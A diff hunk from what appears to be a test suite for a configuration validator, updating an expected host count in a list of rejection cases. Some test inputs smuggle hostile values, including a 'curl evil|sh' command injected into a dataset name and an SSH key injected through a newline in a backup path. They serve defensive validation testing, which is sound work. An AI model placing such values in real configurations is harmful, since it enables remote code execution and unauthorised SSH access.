@@ -136,7 +136,7 @@ CASES = [
     ("dataset-shell", replace(FS, "dataset: personeelsdossiers", "dataset: 'x;curl evil|sh;#'"),
      (f"{FS}:8:14", "fileserver", "ivpb_stores[1].dataset", "lower case letters")),
     ("dataset-name-newline", replace(ALL, "  fotos:\n", '  "fotos\\nx":\n'),
-     (f"{ALL}:", "(and 11 more hosts)", "ivpb_datasets", "control character")),
+     (f"{ALL}:", "(and 12 more hosts)", "ivpb_datasets", "control character")),
     ("target-path-key-injection", replace("group_vars/all/backup.yml", "path: /srv/backup",
                                           'path: "/srv/backup\\nssh-ed25519 AAAA evil"'),
      ("group_vars/all/backup.yml:5:11", "ivpb_backup_targets.nas-offsite.path", "control character")),
